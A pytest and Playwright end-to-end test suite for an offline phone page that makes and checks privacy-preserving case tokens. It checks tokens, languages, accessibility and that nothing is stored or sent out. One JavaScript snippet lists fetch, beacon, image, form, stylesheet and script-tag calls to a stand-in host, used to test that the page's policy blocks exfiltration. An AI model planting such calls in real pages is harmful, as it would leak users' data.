"""Collectives make and check case tokens on a phone, from a file, and nothing of it leaves or stays."""

import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import BrowserContext, Page, expect

from pipeline.contract import load_contract
from pipeline.forms.case_token import write_case_token_page
from pipeline.forms.case_token_sentences import SENTENCES
from pipeline.language import list_languages, load_language
from pipeline.tokens import make_sign, make_token, normalise
from tests.browser.chromium import FLAGS
from tests.browser.test_accessibility import FIND_VIOLATIONS, MEASURE, RULES, UNFOLD

pytestmark = pytest.mark.e2e

SECRET, CHOICE, COLLECTIVE = "Canary river goat seven", "Canary 7", "UTTHAN"
TOKEN = make_token(CHOICE, SECRET, COLLECTIVE)
OTHERS = [code for code in list_languages() if code != "en"]

scripts = {
    "Latin": "azAZ éßŸŉſ",
    "Devanagari": "".join(map(chr, range(0x0900, 0x0980))),
    "Bengali": "অআকখগঘড়ঢ়য়ৎ০১২৩৪৫৬৭৮৯ািীুূৃেৈোৌ্ৗ়ং",
    "Odia": "ଅଆକଖଗଘଡ଼ଢ଼ୟ୦୧୨୩୪୫୬୭୮୯ାିୀୁୂୃେୈୋୌ୍ୖୗ଼",
    "Tamil": "அஆகஙசஞ௦௧௨௩௪௫௬௭௮௯ாிீுூெேைொோௌ்ௗ",
    "Telugu": "అఆకఖగఘ౦౧౨౩౪౫౬౭౮౯ాిీుూృెేైొోౌ్ౕౖ",
}
shared = "0189 -/.#ªµ½²ＡＢ１２①ﬁΣςİı\u00a0\u00ad\u200b\u200c\u200d\u2009\u3000\ufeff\U0001d7d8"
choices = st.sampled_from(sorted(scripts)).flatmap(
    lambda name: st.text(scripts[name] + shared, min_size=1, max_size=20).filter(normalise)
)
secrets = st.sampled_from(
    [
        SECRET,
        "नदी आम चाँद घर ७",
        "নদী আম চাঁদ ঘর ৭",
        "ନଦୀ ଆମ୍ବ ଚାନ୍ଦ ଘର",
        "ஆறு மாம்பழம் நிலா வீடு",
        "నది మామిడి చంద్రుడు ఇల్లు",
    ]
)

STORES = """async () => ({
  local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
  databases: (await indexedDB.databases()).length, address: location.href, title: document.title,
  history: history.length, state: history.state, name: window.name,
})"""

REACH_OUT = """async () => {
  const ways = [
    () => fetch("https://elsewhere.invalid/fetch"),
    () => navigator.sendBeacon("https://elsewhere.invalid/beacon", "x"),
    () => { new Image().src = "https://elsewhere.invalid/image"; },
    () => { const form = document.createElement("form"); form.action = "https://elsewhere.invalid/form";
            form.target = "_blank"; document.body.appendChild(form); form.submit(); },
    () => { const link = document.createElement("link"); link.rel = "stylesheet";
            link.href = "https://elsewhere.invalid/style"; document.head.appendChild(link); },
    () => { const script = document.createElement("script"); script.src = "https://elsewhere.invalid/script";
            document.head.appendChild(script); },
  ];
  for (const way of ways) { try { await way(); } catch (error) { } }
}"""
"""Ways out of a page that somebody might put into it."""

HIDE = (
    "state => { Object.defineProperty(document, 'hidden', {value: state, configurable: true});"
    " document.dispatchEvent(new Event('visibilitychange')); }"
)


@pytest.fixture(scope="module")
def file(tmp_path_factory) -> Path:
    """The page as a collective gets it."""
    path = tmp_path_factory.mktemp("phone") / "case-token.html"
    path.write_bytes(write_case_token_page())
    return path


def watch(context: BrowserContext) -> list[str]:
    """Return the addresses that leave the machine from now on, none of which gets an answer."""
    asked: list[str] = []

    def note(route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route(re.compile("^(?!file:)"), note)
    return asked


@pytest.fixture
def context(browser, windows) -> Iterator[BrowserContext]:
    """A fresh profile on a phone from which no request may go out and nothing may be complained of."""
    with browser.new_context(viewport=windows["phone"], locale="en-IN") as context:
        asked, complaints = watch(context), []
        context.on("console", lambda message: complaints.append(message.text))
        context.on("weberror", lambda error: complaints.append(str(error.error)))
        yield context
        assert asked == complaints == []


@pytest.fixture
def page(context, file) -> Page:
    page = context.new_page()
    page.goto(file.as_uri())
    return page


@pytest.fixture(scope="module")
def phone(browser, file, windows) -> Iterator[Page]:
    """One open page for all drawn examples."""
    with browser.new_context(viewport=windows["phone"], locale="en-IN") as context:
        page = context.new_page()
        page.goto(file.as_uri())
        yield page


def fill(page: Page, choice: str = CHOICE, secret: str = SECRET, collective: str = COLLECTIVE) -> None:
    page.locator("#collective").select_option(collective)
    page.locator("#one-time-secret").fill(secret)
    page.locator("#choice").fill(choice)


def make(page: Page, *given: str) -> str:
    """Make a token and return what the page shows of it."""
    fill(page, *given)
    page.locator("#make-button").click()
    page.locator("#result").wait_for()
    return page.locator("#token").text_content()


def check(page: Page, token: str) -> str:
    """Check a token from paper and return what the page says of it."""
    page.locator("#paper").fill(token)
    page.locator("#check-button").click()
    return page.locator("#check-said").text_content()


def say(key: str, code: str = "en", count: int | str = "") -> str:
    return load_language(code).say_marked(SENTENCES[key], least=12, length=33, count=count)


def expect_cleared(page: Page) -> None:
    """Nothing of what was typed or made is anywhere on the page."""
    for name in ("#collective", "#one-time-secret", "#choice", "#paper"):
        expect(page.locator(name)).to_have_value("")
    expect(page.locator("#result")).to_be_hidden()
    expect(page.locator("#one-time-secret")).to_have_attribute("type", "password")
    assert not re.search(
        "Canary|[0-9A-F]{4}", "".join(page.locator("header, main, footer").all_text_contents())
    )


@settings(max_examples=25)
@given(choices, secrets, st.sampled_from(sorted(load_contract().code_lists["collectives"].codes)))
def test_the_page_makes_the_tokens_of_the_reference(phone, choice, secret, collective):
    assert make(phone, choice, secret, collective) == make_token(choice, secret, collective)
    assert phone.locator("#sign").text_content() == make_sign(secret, collective)
    assert phone.locator("#token span").all_text_contents() == re.findall(
        ".{1,4}", make_token(choice, secret, collective)
    )


def test_a_file_may_use_the_cryptography_of_the_browser(page):
    assert page.evaluate("[location.protocol, isSecureContext, typeof crypto.subtle]") == [
        "file:",
        True,
        "object",
    ]
    expect(page.locator("#unable")).to_be_hidden()


def test_a_browser_without_cryptography_says_so_and_makes_nothing(context, file):
    page = context.new_page()
    page.add_init_script("Object.defineProperty(crypto, 'subtle', {value: undefined})")
    page.goto(file.as_uri())
    expect(page.locator("#unable")).to_be_visible()
    expect(page.locator("#make-button")).to_be_disabled()
    assert check(page, TOKEN) == say("right")


def test_a_page_without_scripts_says_in_all_languages_what_it_needs(browser, file):
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        page.goto(file.as_uri())
        assert page.locator(".stop:visible").all_inner_texts() == [
            say("no_script", code) for code in list_languages()
        ]


def test_nothing_that_gets_into_the_page_can_send_anything_out(browser, file, tmp_path):
    careless = tmp_path / "careless.html"
    careless.write_text("<!doctype html><title>No policy</title>")
    left = {}
    for path in (file, careless):
        with browser.new_context() as context:
            asked = watch(context)
            page = context.new_page()
            page.goto(path.as_uri())
            page.evaluate(REACH_OUT)
            page.wait_for_timeout(500)
            left[path] = {url.rsplit("/", 1)[1].strip("?") for url in asked}
    assert left[file] == set()
    assert left[careless] == {"fetch", "beacon", "image", "form", "style", "script"}


def test_nothing_stays_in_storage_address_title_or_history(page, file):
    before = page.evaluate(STORES)
    make(page)
    check(page, TOKEN)
    page.locator("#secret-show").check()
    page.locator("#copy-button").click()
    after = page.evaluate(STORES)
    assert after == before
    del after["history"]
    kept = dict.fromkeys(("local", "session", "databases"), 0) | dict.fromkeys(("cookie", "name"), "")
    assert after == kept | {"state": None, "address": file.as_uri(), "title": say("title")}


def test_nothing_stays_on_the_disk_of_the_phone(browser, find_program, file, tmp_path):
    careless = tmp_path / "careless.html"
    careless.write_text(
        "<!doctype html><title>Keeps</title><script>localStorage.kept = 'kept words'</script>"
    )
    profile = tmp_path / "profile"
    launch = browser.browser_type.launch_persistent_context
    with launch(profile, executable_path=find_program("chromium", "chromium"), args=FLAGS) as context:
        page = context.new_page()
        page.goto(file.as_uri())
        make(page)
        check(page, TOKEN)
        page.goto(careless.as_uri())
        page.go_back()
        expect_cleared(page)
    kept = b"".join(path.read_bytes() for path in profile.rglob("*") if path.is_file())
    found = {
        word
        for word in (SECRET, CHOICE, TOKEN, "kept words")
        for code in ("utf-8", "utf-16-le")
        if word.encode(code) in kept
    }
    assert found == {"kept words"}


@pytest.mark.parametrize("code", OTHERS)
def test_every_language_can_be_chosen_and_then_all_is_said_in_it(page, code):
    page.evaluate("window.notReloaded = true")
    make(page)
    page.locator("#copy-button").click()
    page.locator("#choice").fill("98765 43210")
    page.locator("#one-time-secret").fill("short")
    page.locator("#make-button").click()
    check(page, "0")
    page.evaluate(UNFOLD)
    page.evaluate("document.getElementById('result').hidden = false")
    page.locator(f"[data-language={code}]").click()
    own = {say(key, code, count) for key in SENTENCES for count in ("", 1, 5)}
    names = {load_language(other).name for other in list_languages()}
    labels = {each.label for each in load_contract().code_lists["collectives"].codes.values()}
    lines = {line.strip() for line in page.locator("body").inner_text().splitlines() if line.strip()}
    assert lines - own == names | labels
    shown = {
        "secret_short": 5,
        "choice_number": "",
        "wrong_length": 1,
        "title": "",
        "token": "",
        "keep_two": "",
    }
    assert {say(key, code, count) for key, count in shown.items()} <= lines
    assert page.title() == say("title", code)
    assert page.locator("html").get_attribute("lang") == code
    assert page.locator("[role=group]").get_attribute("aria-label") == say("language", code)
    assert page.locator("[aria-pressed=true]").all_inner_texts() == [load_language(code).name]
    assert page.locator("#unread").is_visible() != load_language(code).reviewed
    assert page.evaluate("window.notReloaded")


def test_the_page_opens_in_the_language_of_the_phone(browser, file):
    opened = {}
    for locale in ("or-IN", "ta", "gu-IN", "en-IN"):
        with browser.new_context(locale=locale) as context:
            page = context.new_page()
            page.goto(file.as_uri())
            opened[locale] = page.locator("html").get_attribute("lang")
    assert opened == {"or-IN": "or", "ta": "ta", "gu-IN": "en", "en-IN": "en"}


@pytest.mark.parametrize("window", ["narrow", "phone", "desktop"])
def test_the_page_fits_and_breaks_no_rule_of_accessibility(page, windows, window, find_checker):
    page.set_viewport_size({"narrow": {"width": 320, "height": 640}, **windows}[window])
    page.evaluate(find_checker("axe-core/axe.min.js").read_text(encoding="utf-8"))
    for code in list_languages():
        page.locator(f"[data-language={code}]").click()
        page.evaluate(UNFOLD)
        make(page, "98765 43210")
        check(page, "0")
        width, room = page.evaluate(MEASURE)
        assert width <= room
        assert page.evaluate(FIND_VIOLATIONS, RULES) == []
        # With an error in each field, too.
        page.locator("#clear-button").click()
        page.locator("#make-button").click()
        assert page.evaluate(FIND_VIOLATIONS, RULES) == []


def test_the_page_keeps_the_standard(file, find_program, find_checker):
    checker = find_checker("vnu-jar/build/dist/vnu.jar")
    command = [
        find_program("java", "default-jre-headless"),
        "-jar",
        checker,
        "--format",
        "json",
        "--exit-zero-always",
    ]
    run = subprocess.run([*command, "--stdout", file], capture_output=True, text=True, check=True)
    # The checker does not compare hashes; a browser does, and its console is listened to.
    blocked = r"Inline (script|style) violates Content Security Policy \(meta tag\): blocked by .*"
    messages = [message["message"] for message in json.loads(run.stdout)["messages"]]
    assert [message for message in messages if not re.fullmatch(blocked, message)] == []


def test_a_token_is_made_copied_and_checked_with_keys_alone(page, context):
    context.grant_permissions(["clipboard-read", "clipboard-write"])

    def tab_to(name: str) -> None:
        for _ in range(12):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.id") == name:
                return
        pytest.fail(f"{name} is out of reach.")

    tab_to("collective")
    page.keyboard.type("Utt")
    tab_to("one-time-secret")
    page.keyboard.type(SECRET)
    tab_to("choice")
    page.keyboard.type(CHOICE)
    page.keyboard.press("Enter")
    expect(page.locator("#result-title")).to_be_focused()
    tab_to("copy-button")
    page.keyboard.press("Enter")
    expect(page.locator("#copy-said")).to_have_text(say("copied"))
    assert page.evaluate("navigator.clipboard.readText()") == TOKEN
    tab_to("paper")
    page.keyboard.press("Control+V")
    page.keyboard.press("Enter")
    expect(page.locator("#check-said")).to_have_text(say("right"))
    tab_to("clear-button")
    page.keyboard.press("Enter")
    expect_cleared(page)


def test_where_the_clipboard_is_out_of_reach_the_token_is_copied_by_hand_or_to_be_written(page, context):
    context.grant_permissions(["clipboard-read"])
    make(page)
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('refused')); }")
    page.locator("#copy-button").click()
    expect(page.locator("#copy-said")).to_have_text(say("copied"))
    assert page.evaluate("navigator.clipboard.readText()") == TOKEN
    expect(page.locator("#copy-button")).to_be_focused()
    page.evaluate("() => { document.execCommand = () => false; }")
    page.locator("#copy-button").click()
    expect(page.locator("#copy-said")).to_have_text(say("not_copied"))
    assert TOKEN not in page.evaluate("Array.from(document.querySelectorAll('textarea'), each => each.value)")


@pytest.mark.parametrize(
    ("choice", "warning"),
    [
        ("9876543210", "choice_number"),
        ("+91 98765-43210", "choice_number"),
        ("২৩৪১ ২৩৪১ ২৩৪৬", "choice_number"),
        ("फ़ोन ९८७६५४३२१०", "choice_number"),
        ("a@example.in", "choice_address"),
        ("a＠example.in", "choice_address"),
        ("UTT/2026/000123", None),
        ("987654321", None),
        ("blue lamp", None),
    ],
)
def test_a_choice_that_leads_to_the_person_is_warned_of_while_it_is_typed(page, choice, warning):
    page.locator("#choice").fill(choice)
    expect(page.locator("#choice-said")).to_have_text(say(warning) if warning else "")


@pytest.mark.parametrize(
    ("secret", "hint"),
    [
        ("", None),
        ("eleven char", "secret_short"),
        ("password1234", "secret_weak"),
        ("aaaa bbbb aaaa bbbb", "secret_weak"),
        ("Utthan lamp river goat", "secret_weak"),
        (SECRET, "secret_fair"),
        ("k7#pv!2xq9zt", "secret_fair"),
        ("নদী আম চাঁদ ঘর", "secret_fair"),
    ],
)
def test_a_secret_is_judged_while_it_is_typed(page, secret, hint):
    fill(page, secret=secret)
    expect(page.locator("#secret-said")).to_have_text(say(hint, count=len(secret)) if hint else "")


@pytest.mark.parametrize(
    ("missing", "field", "message", "key", "count"),
    [
        ({"collective": ""}, "#collective", "#collective-said", "need_collective", ""),
        ({"secret": "eleven char"}, "#one-time-secret", "#secret-said", "secret_short", 11),
        ({"choice": " \u200b"}, "#choice", "#choice-said", "need_choice", ""),
    ],
)
def test_what_is_missing_is_said_at_its_field(page, missing, field, message, key, count):
    fill(page, **missing)
    page.locator("#make-button").click()
    expect(page.locator(message)).to_have_text(say(key, count=count))
    expect(page.locator(field)).to_be_focused()
    expect(page.locator(field)).to_have_attribute("aria-invalid", "true")
    expect(page.locator("#result")).to_be_hidden()
    assert make(page) == TOKEN
    expect(page.locator(field)).not_to_have_attribute("aria-invalid", "true")


def test_a_token_goes_away_once_anything_it_was_made_of_is_changed(page):
    for change in ({"choice": "Canary 8"}, {"secret": SECRET + "s"}, {"collective": "VIJETA"}):
        make(page)
        fill(page, **change)
        expect(page.locator("#result")).to_be_hidden()
        expect(page.locator("#token")).to_have_text("")


def test_a_token_from_paper_is_told_right_from_wrong(page):
    other = "0" if TOKEN[4] != "0" else "1"
    place = next(at for at in range(32) if TOKEN[at] != TOKEN[at + 1])
    swapped = TOKEN[:place] + TOKEN[place + 1] + TOKEN[place] + TOKEN[place + 2 :]
    assert check(page, TOKEN) == say("right")
    assert check(page, " ".join(re.findall(".{1,4}", TOKEN.lower()))) == say("right")
    assert check(page, TOKEN.translate({48 + digit: 0x0966 + digit for digit in range(10)})) == say("right")
    assert check(page, TOKEN[:4] + other + TOKEN[5:]) == say("wrong")
    assert check(page, swapped) == say("wrong")
    assert check(page, TOKEN[:32]) == say("wrong_length", count=32)
    assert check(page, TOKEN[:32] + "O") == say("wrong_letters")


def test_leaving_the_page_clears_it(page):
    make(page)
    check(page, TOKEN)
    page.evaluate("window.dispatchEvent(new PageTransitionEvent('pagehide'))")
    expect_cleared(page)


def test_a_phone_that_stays_locked_for_a_minute_clears_the_page(page):
    page.clock.install(time=0)
    make(page)
    # From here on time passes in the test alone, however slow the machine is.
    page.clock.pause_at(100)
    page.evaluate(HIDE, True)
    page.clock.run_for(59_000)
    expect(page.locator("#token")).to_have_text(TOKEN)
    page.clock.run_for(2_000)
    expect_cleared(page)
    page.evaluate(HIDE, False)
    expect(page.locator("#clear-said")).to_have_text(say("cleared"))


def test_a_phone_that_slept_and_ran_no_timer_clears_the_page_as_it_wakes(page):
    page.clock.install(time=1_800_000_000)
    make(page)
    page.evaluate(HIDE, True)
    page.clock.set_system_time(1_800_000_090)
    expect(page.locator("#token")).to_have_text(TOKEN)
    page.evaluate(HIDE, False)
    expect_cleared(page)


def test_a_short_look_elsewhere_clears_nothing(page):
    page.clock.install()
    make(page)
    page.evaluate(HIDE, True)
    page.clock.run_for(30_000)
    page.evaluate(HIDE, False)
    page.clock.run_for(120_000)
    expect(page.locator("#token")).to_have_text(TOKEN)


def test_a_page_that_nobody_touches_for_five_minutes_is_cleared(page):
    page.clock.install(time=0)
    make(page)
    page.clock.pause_at(100)
    page.keyboard.press("Shift")
    page.clock.run_for(299_000)
    page.keyboard.press("Shift")
    page.clock.run_for(299_000)
    expect(page.locator("#token")).to_have_text(TOKEN)
    page.clock.run_for(2_000)
    expect_cleared(page)


def test_a_token_that_is_being_made_while_the_page_is_cleared_never_shows(page):
    fill(page)
    page.evaluate(
        """() => {
          const derive = crypto.subtle.deriveKey.bind(crypto.subtle);
          const finished = new Promise(resolve => { window.finish = resolve; });
          window.made = new Promise(resolve => {
            crypto.subtle.deriveKey = async (...given) => {
              const key = await derive(...given);
              resolve();
              await finished;
              return key;
            };
          });
        }"""
    )
    page.locator("#make-button").click()
    page.evaluate("window.made")
    expect(page.locator("#make-said")).to_have_text(say("working"))
    page.locator("#clear-button").click()
    page.evaluate("window.finish()")
    page.wait_for_timeout(300)
    expect_cleared(page)


def test_a_secret_is_shown_only_while_it_is_wanted(page):
    fill(page)
    field, tick = page.locator("#one-time-secret"), page.locator("#secret-show")
    expect(field).to_have_attribute("type", "password")
    tick.check()
    expect(field).to_have_attribute("type", "text")
    tick.uncheck()
    expect(field).to_have_attribute("type", "password")
